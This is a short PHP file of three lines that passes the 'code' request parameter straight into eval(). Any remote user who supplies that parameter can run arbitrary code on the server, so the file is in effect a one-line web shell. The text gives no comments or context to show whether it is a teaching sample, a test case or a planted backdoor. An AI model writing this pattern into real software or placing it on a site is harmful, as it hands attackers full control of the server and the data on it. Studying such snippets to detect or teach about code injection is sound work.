<?php
$code = $_REQUEST['code'];
eval('$x = ' . $code . ';');
